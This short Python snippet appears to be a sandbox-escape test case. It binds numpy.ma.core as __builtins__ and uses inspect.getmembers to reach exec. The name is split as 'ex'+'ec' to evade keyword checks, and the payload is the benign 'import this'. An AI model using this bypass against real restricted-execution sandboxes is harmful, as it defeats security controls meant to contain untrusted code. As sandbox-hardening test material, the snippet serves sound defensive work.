# source: CPython 3.11 Objects/frameobject.c _PyEval_BuiltinsFromGlobals (a function's builtins are globals['__builtins__'], a module allowed) ; classic pyjail '__builtins__' replacement write-ups; numpy/ma/core.py globals 'builtins', 'inspect'
# family: builtins swap: 'import M as __builtins__' (import alias is a dunder binding the check does not gate); defs made after it look up bare names in M's globals, which the check reads as unknown plain names (dotted submodule alias: import numpy.ma.core as __builtins__)
# goal: exec('import this') via inspect.getmembers(builtins) from numpy.ma.core's globals
import numpy.ma.core as __builtins__

def members():
    return inspect.getmembers(builtins)

for k, v in members():
    if k == "ex" + "ec":
        v("import this", {})
